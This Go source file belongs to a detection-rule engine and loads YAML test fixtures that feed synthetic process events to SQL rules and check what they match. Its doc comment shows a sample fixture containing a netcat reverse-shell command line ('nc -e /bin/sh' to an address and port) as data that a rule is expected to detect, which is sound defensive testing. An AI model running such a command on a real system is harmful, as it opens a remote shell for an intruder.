package rules

import (
	"bytes"
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"path"
	"slices"
	"strconv"
	"strings"
	"time"

	"go.yaml.in/yaml/v3"

	"daemoneye/bus/event"
)

// Fixtures stand beside a rule, NAME.test.yaml beside NAME.sql:
//
//	cases:
//	  - name: netcat runs a shell
//	    events:                      # rows: column → value
//	      - command_line: nc -e /bin/sh 10.0.0.1 4444
//	        executable_path: /usr/bin/nc.traditional
//	    match: 1                     # rows that the rule returns
//	    expect:                      # values in these rows, each in another one
//	      - command_line: nc -e /bin/sh 10.0.0.1 4444
//	  - name: netcat as a port scanner
//	    file: scan.jsonl             # rows as JSON Lines, beside the rule
//	    must_not_match: true
//
// A row is of the rule's table unless the case, or a member "table" of the row,
// names another; rows of a file that are of tables the rule does not read are
// passed over, so that a recording can be used as it is. The columns that are never NULL have a value when the row gives none: times
// count up from 2026-01-01 by a second a row, entity_id and pid differ from
// row to row, event is exec, accessible is true, kernel_thread is false.
const fixtureSuffix = ".test.yaml"

// tableMember of a row is the name of its table; no table has such a column.
const tableMember = "table"

// Limits of fixtures.
const (
	maxFixtureBytes = 1 << 20  // of a .test.yaml file
	maxEventBytes   = 64 << 20 // of a JSON Lines file
	maxCases        = 1000
	maxCaseRows     = 50_000
)

type fixtureFile struct {
	Cases []fixtureCase `yaml:"cases"`
}

type fixtureCase struct {
	Name         string                 `yaml:"name"`
	Table        string                 `yaml:"table"`
	Events       []map[string]yaml.Node `yaml:"events"`
	File         string                 `yaml:"file"`
	Match        *int                   `yaml:"match"`
	Expect       []map[string]yaml.Node `yaml:"expect"`
	MustNotMatch bool                   `yaml:"must_not_match"`
}

// parseFixtures reads a .test.yaml file strictly: unknown keys are errors.
func parseFixtures(data []byte) ([]fixtureCase, error) {
	d := yaml.NewDecoder(bytes.NewReader(data))
	d.KnownFields(true)
	var f fixtureFile
	if err := d.Decode(&f); err != nil {
		if errors.Is(err, io.EOF) {
			return nil, errors.New("the file is empty")
		}
		return nil, errors.New(strings.TrimPrefix(strings.ReplaceAll(err.Error(), "\n ", ""), "yaml: "))
	}
	if err := d.Decode(new(any)); !errors.Is(err, io.EOF) {
		return nil, errors.New("more than one document")
	}
	if len(f.Cases) == 0 {
		return nil, errors.New("no cases")
	}
	if len(f.Cases) > maxCases {
		return nil, fmt.Errorf("%d cases, the limit is %d", len(f.Cases), maxCases)
	}
	for i := range f.Cases {
		if err := f.Cases[i].check(); err != nil {
			return nil, fmt.Errorf("case %d (%s): %w", i+1, cmp.Or(f.Cases[i].Name, "without a name"), err)
		}
	}
	return f.Cases, nil
}

func (c *fixtureCase) check() error {
	switch {
	case c.Name == "":
		return errors.New("give it a name")
	case (len(c.Events) == 0) == (c.File == ""):
		return errors.New("give either events or file")
	case (c.Match == nil && len(c.Expect) == 0) == !c.MustNotMatch:
		return errors.New("give either match: COUNT, expect: ROWS or must_not_match: true")
	case c.Match != nil && *c.Match < len(c.Expect):
		return fmt.Errorf("match: %d is less than the %d rows of expect", *c.Match, len(c.Expect))
	case c.Match != nil && *c.Match < 0:
		return fmt.Errorf("match: %d is negative", *c.Match)
	case c.Table != "" && event.Lookup(c.Table) == nil:
		return fmt.Errorf("unknown table %q", c.Table)
	}
	return nil
}

// want returns how many rows the rule must return.
func (c *fixtureCase) want() int {
	if c.Match == nil {
		return len(c.Expect)
	}
	return *c.Match
}

// missing returns an error if a row of expect is in none of the matches, each
// of which stands for one row at most.
func (c *fixtureCase) missing(list []Match) error {
	rows := make([]map[string]json.RawMessage, len(list))
	for i := range list {
		if err := json.Unmarshal(list[i].output, &rows[i]); err != nil {
			return err
		}
	}
	for n, want := range c.Expect {
		values := make(map[string]string, len(want))
		for column, node := range want {
			var v any
			if err := node.Decode(&v); err != nil {
				return fmt.Errorf("expect, row %d, line %d: %w", n+1, node.Line, err)
			}
			if t, ok := v.(time.Time); ok {
				v = t.UTC().Format(timeForm)
			}
			text, err := json.Marshal(v)
			if err != nil {
				return fmt.Errorf("expect, row %d, line %d: %w", n+1, node.Line, err)
			}
			values[column] = canonical(text)
		}
		at := -1
		for i, row := range rows {
			if row != nil && holds(row, values) {
				at = i
				break
			}
		}
		if at < 0 {
			return fmt.Errorf("expect, row %d is in none of the rows found", n+1)
		}
		rows[at] = nil
	}
	return nil
}

// holds reports whether a row has the values, in canonical JSON.
func holds(row map[string]json.RawMessage, values map[string]string) bool {
	for column, want := range values {
		got, ok := row[column]
		if !ok || canonical(got) != want {
			return false
		}
	}
	return true
}

// canonical writes JSON so that equal values are equal texts.
func canonical(data []byte) string {
	var v any
	d := json.NewDecoder(bytes.NewReader(data))
	d.UseNumber()
	if d.Decode(&v) != nil {
		return string(data)
	}
	text, err := json.Marshal(v)
	if err != nil {
		return string(data)
	}
	return string(text)
}

// batches builds the case's rows of the tables that the rule reads, the first
// one unless they say otherwise; at most 1,000 in a batch.
func (c *fixtureCase) batches(tables []string, fsys fs.FS, dir string) ([]*event.Batch, error) {
	f := newRowFiller(cmp.Or(c.Table, tables[0]), tables)
	f.recorded = c.File != ""
	if c.File == "" {
		for i, row := range c.Events {
			values := make(map[string]any, len(row))
			for column, node := range row {
				var v any
				if err := node.Decode(&v); err != nil {
					return nil, fmt.Errorf("event %d, line %d: %w", i+1, node.Line, err)
				}
				values[column] = v
			}
			if err := f.add(values); err != nil {
				return nil, fmt.Errorf("event %d: %w", i+1, err)
			}
		}
		return f.finish(), nil
	}
	name := path.Join(dir, c.File)
	if !fs.ValidPath(name) {
		return nil, fmt.Errorf("file %q leads out of the rules", c.File)
	}
	data, err := readFile(fsys, name, maxEventBytes)
	if err != nil {
		return nil, fmt.Errorf("read events: %w", err)
	}
	d := json.NewDecoder(bytes.NewReader(data))
	d.UseNumber()
	for n := 1; ; n++ {
		var values map[string]any
		err := d.Decode(&values)
		if errors.Is(err, io.EOF) {
			if f.rows == 0 {
				return nil, fmt.Errorf("%s has no row of %s", c.File, strings.Join(tables, ", "))
			}
			return f.finish(), nil
		}
		if err == nil {
			err = f.add(values)
		}
		if err != nil {
			return nil, fmt.Errorf("%s, row %d: %w", c.File, n, err)
		}
	}
}

// rowFiller builds rows from values by column name.
type rowFiller struct {
	table    string   // of rows that name none
	tables   []string // those that are read
	recorded bool     // rows of others are passed over
	builders map[string]*event.Builder
	done     []*event.Batch
	rows     int
}

func newRowFiller(table string, tables []string) *rowFiller {
	return &rowFiller{table: table, tables: tables, builders: map[string]*event.Builder{}}
}

var fixtureStart = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func (f *rowFiller) add(values map[string]any) error {
	builder, err := f.builderFor(values)
	if builder == nil {
		return err
	}
	if f.rows == maxCaseRows {
		return fmt.Errorf("more than %d rows", maxCaseRows)
	}
	t := builder.Table()
	for name := range values {
		if t.Index(name) >= 0 {
			continue
		}
		names := make([]string, len(t.Columns))
		for i, c := range t.Columns {
			names[i] = c.Name
		}
		if near := nearest(name, names); near != "" {
			return fmt.Errorf("%s has no column %q (did you mean %q?)", t.Name, name, near)
		}
		return fmt.Errorf("%s has no column %q", t.Name, name)
	}
	for _, c := range t.Columns {
		v, given := values[c.Name]
		if !given && c.NotNull {
			v = f.standard(c)
		}
		if v == nil {
			if c.NotNull {
				return fmt.Errorf("%s can not be NULL", c.Name)
			}
			continue
		}
		if err := setValue(builder.Column(c.Name), c.Type, v); err != nil {
			return fmt.Errorf("%s: %w", c.Name, err)
		}
	}
	builder.EndRow()
	if f.rows++; builder.Rows() == 1000 {
		f.done = append(f.done, builder.Batch())
	}
	return nil
}

// builderFor takes the name of its table out of a row; nil: the row is passed
// over.
func (f *rowFiller) builderFor(values map[string]any) (*event.Builder, error) {
	name := f.table
	if v, ok := values[tableMember]; ok {
		name = fmt.Sprint(v)
		delete(values, tableMember)
	}
	switch {
	case slices.Contains(f.tables, name):
	case event.Lookup(name) == nil:
		return nil, fmt.Errorf("unknown table %q", name)
	case f.recorded:
		return nil, nil
	default:
		return nil, fmt.Errorf("it is a row of %s, and the rule reads %s", name, strings.Join(f.tables, ", "))
	}
	b := f.builders[name]
	if b == nil {
		b = event.NewBuilder(event.Lookup(name))
		f.builders[name] = b
	}
	return b, nil
}

func (f *rowFiller) finish() []*event.Batch {
	for _, name := range f.tables {
		if b := f.builders[name]; b != nil && b.Rows() > 0 {
			f.done = append(f.done, b.Batch())
		}
	}
	return f.done
}

// standard returns the value of a column that is never NULL.
func (f *rowFiller) standard(c event.Column) any {
	switch c.Type {
	case event.Bool:
		return c.Name == "accessible"
	case event.Timestamptz:
		return fixtureStart.Add(time.Duration(f.rows) * time.Second)
	case event.Int4, event.Int8:
		if c.Name == "pid" {
			return 1000 + f.rows
		}
		return 0
	case event.Float8:
		return 0.0
	case event.TextArray:
		return []any{}
	case event.JSONB:
		return map[string]any{}
	}
	switch c.Name {
	case "event":
		return "exec"
	case "entity_id":
		return fmt.Sprintf("fixture-%d", f.rows)
	default:
		return "fixture"
	}
}

// setValue sets a column from what YAML or JSON gives.
func setValue(c *event.ColumnBuilder, t event.Type, v any) error {
	bad := fmt.Errorf("%v (%T) is not of type %s", v, v, t)
	switch t {
	case event.Bool:
		b, ok := v.(bool)
		if !ok {
			return bad
		}
		c.Bool(b)
	case event.Int4, event.Int8:
		n, err := strconv.ParseInt(fmt.Sprint(v), 10, 64)
		if _, isText := v.(string); isText || err != nil || t == event.Int4 && n != int64(int32(n)) {
			return bad
		}
		c.Int(n)
	case event.Float8:
		x, err := strconv.ParseFloat(fmt.Sprint(v), 64)
		if _, isText := v.(string); isText || err != nil {
			return bad
		}
		c.Float(x)
	case event.Timestamptz:
		return setTime(c, v, bad)
	case event.TextArray:
		list, ok := v.([]any)
		if !ok {
			return bad
		}
		texts := make([]string, len(list))
		for i, item := range list {
			if texts[i], ok = item.(string); !ok {
				return bad
			}
		}
		c.Texts(texts)
	case event.JSONB:
		text, err := json.Marshal(v)
		if err != nil {
			return err
		}
		c.JSON(text)
	default:
		s, ok := v.(string)
		if !ok {
			return bad
		}
		c.Text(s)
	}
	return nil
}

func setTime(c *event.ColumnBuilder, v any, bad error) error {
	at, ok := v.(time.Time)
	if s, isText := v.(string); isText {
		var err error
		if at, err = time.Parse(time.RFC3339Nano, strings.Replace(s, " ", "T", 1)); err != nil {
			return fmt.Errorf("%w (write it as 2026-01-02T15:04:05Z)", bad)
		}
		ok = true
	}
	if !ok {
		return bad
	}
	c.Time(at)
	return nil
}
